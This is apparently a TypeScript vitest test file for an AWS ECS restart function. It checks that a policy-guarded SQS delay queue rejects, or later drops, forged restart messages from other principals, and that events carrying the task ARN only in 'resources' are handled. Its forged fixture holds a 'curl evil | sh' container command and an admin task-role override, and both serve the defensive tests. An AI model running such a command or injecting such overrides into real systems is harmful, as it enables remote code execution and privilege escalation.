/**
 * The restart function, through the built bundle on the simulator: a delay queue only it may
 * write to (and bodies it checks again before RunTask), and events that carry their task ARN
 * only in `resources`.
 */
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterEach, describe, expect, it } from 'vitest';
import {
  DEAD_LETTER_QUEUE,
  DELAY_QUEUE,
  deliverDue,
  invoke,
  JOB,
  newTasks,
  openRestartAccount,
  queueUrl,
  type RestartAccount,
  runJob,
  SG,
  SUBNET,
  stopJob,
} from './support/restart-account.ts';

let account: RestartAccount;

afterEach(async () => {
  await account.close();
});

describe('restart scenario: a delay queue nobody else can use', () => {
  const ROLE = 'arn:aws:iam::123456789012:role/ecs-autopilot-dev-RestartTaskRole-1A2B3C';
  const QUEUE_ARN = `arn:aws:sqs:us-east-1:123456789012:${DELAY_QUEUE}`;
  /** The template's RestartDelayQueuePolicy, with its role and queue resolved. */
  const queuePolicy = {
    Version: '2012-10-17',
    Statement: [
      {
        Sid: 'OnlyTheRestartFunctionSends',
        Effect: 'Deny',
        Principal: { AWS: '*' },
        Action: 'sqs:SendMessage',
        Resource: QUEUE_ARN,
        Condition: { ArnNotEquals: { 'aws:PrincipalArn': ROLE } },
      },
    ],
  };
  /** A restart body as the function writes it, running `job` with `overrides`. */
  const forgedBody = (overrides: Record<string, unknown>) => ({
    kind: 'ecs-autopilot.delayed-restart',
    schemaVersion: 1,
    stoppedTaskArn:
      'arn:aws:ecs:us-east-1:123456789012:task/batch/0123456789abcdef0123456789abcdef',
    clusterArn: 'arn:aws:ecs:us-east-1:123456789012:cluster/batch',
    family: 'job',
    group: 'family:job',
    lineage: '0123456789abcdef0123456789abcdef',
    attempt: 1,
    reason: 'retry-default',
    runTaskInput: {
      cluster: 'arn:aws:ecs:us-east-1:123456789012:cluster/batch',
      taskDefinition: 'arn:aws:ecs:us-east-1:123456789012:task-definition/job:1',
      count: 1,
      launchType: 'FARGATE',
      group: 'family:job',
      networkConfiguration: {
        awsvpcConfiguration: {
          subnets: [SUBNET],
          securityGroups: [SG],
          assignPublicIp: 'DISABLED',
        },
      },
      overrides: {
        containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }],
        ...overrides,
      },
      tags: [],
      startedBy: 'ecs-autopilot',
      clientToken: 'forged-0',
    },
    notBefore: 0,
  });

  async function openGuardedAccount() {
    account = await openRestartAccount({
      scenario: {
        clusters: ['batch'],
        taskDefinitions: [JOB],
        identities: [{ accessKeyId: 'simulator', arn: ROLE }],
      },
    });
    const queue = account.sim.account.queues.get(DELAY_QUEUE);
    if (queue !== undefined) queue.policy = queuePolicy;
    return queue;
  }

  it('refuses a RunTask request sent to the delay queue by any other principal', async () => {
    // Prepare: a principal of the account whose own IAM policy allows sqs:SendMessage.
    await openGuardedAccount();
    const intruder = new SQSClient({
      endpoint: account.sim.endpoint,
      credentials: { accessKeyId: 'ci-deployer', secretAccessKey: 'x' },
    });
    const send = intruder.send(
      new SendMessageCommand({
        QueueUrl: queueUrl(account.sim, DELAY_QUEUE),
        MessageBody: JSON.stringify(
          forgedBody({ taskRoleArn: 'arn:aws:iam::123456789012:role/admin' }),
        ),
      }),
    );
    // Assess
    await expect(send).rejects.toMatchObject({ $metadata: { httpStatusCode: 403 } });
    expect(account.sim.sqs.nextDueAt(DELAY_QUEUE)).toBeUndefined();
  });

  it('still queues and runs its own restarts through the guarded queue', async () => {
    // Prepare
    await openGuardedAccount();
    const job = await runJob(account, { taskDefinition: 'job' });
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'delayed' });
    expect(newTasks(account, before)).toHaveLength(1);
  });

  it('runs nothing from a body that got in before the policy: another role, or no longer selected', async () => {
    // Prepare: two bodies already on the queue (sent before the queue policy was set).
    const queue = await openGuardedAccount();
    if (queue !== undefined) queue.policy = undefined;
    const sqs = new SQSClient({
      endpoint: account.sim.endpoint,
      credentials: { accessKeyId: 'ci-deployer', secretAccessKey: 'x' },
    });
    const QueueUrl = queueUrl(account.sim, DELAY_QUEUE);
    const admin = forgedBody({ taskRoleArn: 'arn:aws:iam::123456789012:role/admin' });
    const other = {
      ...forgedBody({}),
      clusterArn: 'arn:aws:ecs:us-east-1:123456789012:cluster/prod',
    };
    other.runTaskInput.cluster = other.clusterArn;
    other.runTaskInput.clientToken = 'forged-1';
    await sqs.send(new SendMessageCommand({ QueueUrl, MessageBody: JSON.stringify(admin) }));
    await sqs.send(new SendMessageCommand({ QueueUrl, MessageBody: JSON.stringify(other) }));
    if (queue !== undefined) queue.policy = queuePolicy;
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const answer = await deliverDue(account);
    // Assess: both handled and dropped; the role one audited as abandoned.
    expect(answer).toEqual({ batchItemFailures: [] });
    expect(newTasks(account, before)).toEqual([]);
    expect(account.sim.calls.count({ action: 'RunTask' })).toBe(0);
    expect(
      account.sim.account.putEvents.map((e) => (e.detail as { reason: string }).reason),
    ).toEqual(['role-not-passable']);
  });
});

describe('restart scenario: an event without detail.taskArn', () => {
  it('decides a TaskFailedToStart event whose task ARN is only in resources[0]', async () => {
    // Prepare: the shape of real captures: the ARN in resources[0], none in detail.
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'job' });
    const [event] = stopJob(account, job, {
      stopCode: 'TaskFailedToStart',
      reason:
        'CannotPullContainerError: pull image manifest has been retried 5 time(s): i/o timeout',
    }) as { resources: string[]; detail: { taskArn?: string } }[];
    if (event !== undefined) delete event.detail.taskArn;
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess: decided on resources[0]; the restart carries the stopped task's lineage.
    expect(event?.resources).toEqual([job]);
    expect(answer).toMatchObject({ action: 'delayed', reason: 'retry-rule', stoppedTaskArn: job });
    expect(newTasks(account, before).map((t) => t.tags)).toEqual([
      expect.arrayContaining([{ key: 'ecs-autopilot:lineage', value: job.split('/').pop() }]),
    ]);
  });

  it('still refuses, to the dead-letter queue, an event with neither', async () => {
    // Prepare
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'job' });
    const [event] = stopJob(account, job, { stopCode: 'TaskFailedToStart' }) as {
      resources: string[];
      detail: { taskArn?: string };
    }[];
    if (event !== undefined) {
      delete event.detail.taskArn;
      event.resources = [];
    }
    // Act
    const answer = await invoke(account.handler, event);
    // Assess
    expect(answer).toMatchObject({
      status: 'invalid-event',
      preserved: true,
      issues: [expect.stringMatching(/^detail\.taskArn: /)],
    });
    const dead = account.sim.account.queues.get(DEAD_LETTER_QUEUE)?.messages ?? [];
    expect(dead.map((m) => JSON.parse(m.body).reason)).toEqual(['invalid-event']);
  });
});
